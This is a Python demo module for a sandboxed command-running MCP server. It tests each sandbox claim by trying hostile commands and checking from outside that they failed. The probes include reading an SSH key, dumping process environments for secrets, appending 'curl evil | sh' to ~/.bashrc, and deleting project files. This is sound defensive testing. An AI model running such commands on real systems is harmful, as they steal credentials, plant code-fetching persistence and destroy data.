"""What is claimed, each tried by the client's tools and looked at from outside."""

from __future__ import annotations

import secrets
import shlex
import socket
import statistics
import sys
import time
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from nono_mcp.demo.processes import running
from nono_mcp.demo.scene import VARIABLE
from nono_mcp.server.results import META_KEY

if TYPE_CHECKING:
    from mcp import Client
    from mcp_types import CallToolResult

    from nono_mcp.demo.scene import Scene

TIMED_COUNT = 20
_TOLD = "the secret was told"
_VERDICTS = ("integrity", "completeness", "trust")
if sys.platform == "darwin":
    _LOOK_AROUND = "ps -axEww"
    # macOS has no setsid(1); what nohup starts has no reason to end, and another session neither.
    _STAYS = "nohup sh -c 'sleep 600; :' {} >/dev/null 2>&1"
else:
    _LOOK_AROUND = "cat /proc/[0-9]*/environ"
    _STAYS = "setsid sh -c 'trap : TERM HUP; sleep 600; :' {}"
_CONNECT = 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)'


class Demonstration:
    """The claims, each tried and looked at."""

    def __init__(self, scene: Scene) -> None:
        self._scene = scene
        self._client: Client
        self.failed_count = 0

    async def run(self, client: Client) -> None:
        """Try every claim, in order."""
        self._client = client
        await self._commands_run()
        await self._secrets_stay_unread()
        await self._nothing_outside_is_written()
        await self._the_network_is_closed()
        await self._nothing_survives_a_call()
        await self._what_a_call_did_is_undone()
        await self._the_log_is_whole()
        await self._answers_take_milliseconds()
        await self._what_is_enforced()

    async def _commands_run(self) -> None:
        made = self._scene.project / "hello.txt"
        told = await self._sh("echo hello > hello.txt; wc -c hello.txt")
        held = made.is_file() and made.read_text(encoding="ascii") == "hello\n"
        self._claim("a command runs, and writes in the project", told, "hello.txt is there", held)

    async def _secrets_stay_unread(self) -> None:
        told = await self._sh(f"cat {self._scene.key}")
        self._claim("the key in ~/.ssh stays unread", told, *self._is_kept(told))
        told = await self._sh(
            f"{_LOOK_AROUND} >found.txt 2>&1; printenv {VARIABLE} || echo not set"
        )
        found = (self._scene.project / "found.txt").read_bytes()
        kept = self._is_kept(told) if self._scene.secret.encode() not in found else (_TOLD, False)
        self._claim("the secret in the server's environment too", told, *kept)

    def _is_kept(self, told: Told) -> tuple[str, bool]:
        # Not kept from us: it is where it was put, and would be found.
        there = self._scene.key.read_text(encoding="ascii").strip() == self._scene.secret
        held = there and told.ran and self._scene.secret not in told.text
        return "the secret isn't in the answer" if held else _TOLD, held

    async def _nothing_outside_is_written(self) -> None:
        outside = self._scene.home / ".bashrc"
        told = await self._sh(f"echo 'curl evil | sh' >> {outside}")
        held = told.ran and not outside.exists()
        seen = "there is no ~/.bashrc" if held else "~/.bashrc was written"
        self._claim("nothing outside the project is written", told, seen, held)

    async def _the_network_is_closed(self) -> None:
        with closing(socket.create_server(("127.0.0.1", 0))) as listener:
            listener.setblocking(False)  # noqa: FBT003 - the socket's own signature
            port = listener.getsockname()[1]
            # The system's, if it's there: one in the real home is closed to this one.
            python = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable  # noqa: ASYNC240 - no wait to speak of
            program = [python, "-I", "-S", "-c", _CONNECT, str(port)]
            told = await self._call(shlex.join(["python3", *program[3:]]), {"argv": program})
            reached = _was_reached(listener)
            # The listener is one that can be reached.
            socket.create_connection(("127.0.0.1", port), 5).close()
            held = told.ran and told.status != 0 and not reached and _was_reached(listener)
        seen = "a listener on this machine was reached" if reached else "the listener waits in vain"
        self._claim("the network is closed, this machine's own too", told, seen, held)

    async def _nothing_survives_a_call(self) -> None:
        mark = f"demo-{secrets.token_hex(4)}"
        stays = _STAYS.format(mark)
        told = await self._sh(f"{stays} & sleep 0.2; echo started")
        held = told.ran and "started" in told.text and not any(running(mark))
        seen = f"no process named {mark}" if held else "it still runs"
        self._claim("what a command leaves behind ends with it", told, seen, held)

    async def _what_a_call_did_is_undone(self) -> None:
        project = self._scene.project
        work = {project / ".env": "NAME=value\n", project / "notes.txt": "a day's work\n"}
        for path, text in work.items():
            path.write_text(text, encoding="ascii")
        told = await self._sh("rm .env notes.txt; echo boo > planted.txt")
        harmed = not any(path.exists() for path in work) and (project / "planted.txt").exists()
        answer = await self._client.call_tool("rollback", {"snapshot": told.before})
        back = all(path.is_file() and path.read_text("ascii") == work[path] for path in work)
        held = harmed and back and not (project / "planted.txt").exists()
        seen = ".env and notes.txt are back, planted.txt is gone" if held else "it isn't as it was"
        self._claim("what a call did to the project is undone", told, seen, held)
        say(f"          rollback: {_text(answer).splitlines()[0]}")

    async def _the_log_is_whole(self) -> None:
        began_at = time.perf_counter()
        verified = _text(await self._client.call_tool("audit_verify", {}))
        time_ms = (time.perf_counter() - began_at) * 1000
        verdicts = [line for line in verified.splitlines() if line.startswith(_VERDICTS)]
        log = self._scene.home / ".local" / "state" / "nono" / "audit"
        lines = b"".join(path.read_bytes() for path in log.rglob("*.jsonl"))
        held = len(verdicts) == len(_VERDICTS) and all(" ok:" in one for one in verdicts)
        held = held and b"planted.txt" in lines and self._scene.secret.encode() not in lines
        seen = (
            "the calls above stand in it, the secret doesn't" if held else "it can't be relied on"
        )
        told = Told("audit_verify", "\n".join(["", *verdicts[:1]]), 0, time_ms)
        self._claim("what was called stands in a log that verifies", told, seen, held)

    async def _answers_take_milliseconds(self) -> None:
        times_ms = []
        for _ in range(TIMED_COUNT):
            told = await self._call("true", {"argv": ["true"]})
            times_ms.append(told.time_ms)
        median_ms = statistics.median(times_ms)
        say(f"        {TIMED_COUNT} calls of `true`, one by one: {median_ms:.1f} ms in the median")

    async def _what_is_enforced(self) -> None:
        answer = await self._client.call_tool("explain_policy", {})
        say("")
        for line in _text(answer).splitlines():
            if line.startswith(("Enforced", "Not ")):
                say(line.replace("; ", "\n  ").replace("part: ", "part:\n  "))

    async def _sh(self, command: str) -> Told:
        return await self._call(command, {"command": command})

    async def _call(self, shown: str, arguments: dict[str, object]) -> Told:
        began_at = time.perf_counter()
        answer = await self._client.call_tool("run_sandboxed", arguments)
        time_ms = (time.perf_counter() - began_at) * 1000
        meta = (answer.meta or {}).get(META_KEY)
        before = (meta or {}).get("changes", {}).get("before", "none")
        return Told(shown, _text(answer), None if meta is None else meta["status"], time_ms, before)

    def _claim(self, text: str, told: Told, seen: str, held: bool) -> None:  # noqa: FBT001 - unpacked
        self.failed_count += not held
        say(f"  {'ok' if held else 'FAIL':4}  {text}   ({told.time_ms:.1f} ms)")
        say(f"          $ {self._shortened(told.shown)}")
        for line in told.last_lines:
            say(f"          {self._shortened(line)}")
        say(f"          seen from outside: {seen}")

    def _shortened(self, text: str) -> str:
        return text.replace(str(self._scene.home), "~")


@dataclass(frozen=True, slots=True)
class Told:
    """What the client was told of one command."""

    shown: str
    text: str
    status: int | None
    """Nothing if it didn't run."""
    time_ms: float
    before: str = "none"
    """The snapshot of the project as it was before."""

    @property
    def ran(self) -> bool:
        """Tell whether there was a command, of which something can be said."""
        return self.status is not None

    @property
    def last_lines(self) -> list[str]:
        """Return the last of what it printed, and what nono said to that."""
        printed = self.text.splitlines()[1:] if self.ran else self.text.splitlines()
        hints = [line for line in printed if line.startswith("[nono]")]
        said = [line for line in printed if line not in hints] or ["(nothing printed)"]
        return said[-1:] + hints[-1:]


def _text(answer: CallToolResult) -> str:
    return "\n".join(one.text for one in answer.content if one.type == "text")


def _was_reached(listener: socket.socket) -> bool:
    try:
        connection, _ = listener.accept()
    except BlockingIOError:
        return False
    connection.close()
    return True


def say(text: str) -> None:
    """Print *text* at once."""
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()
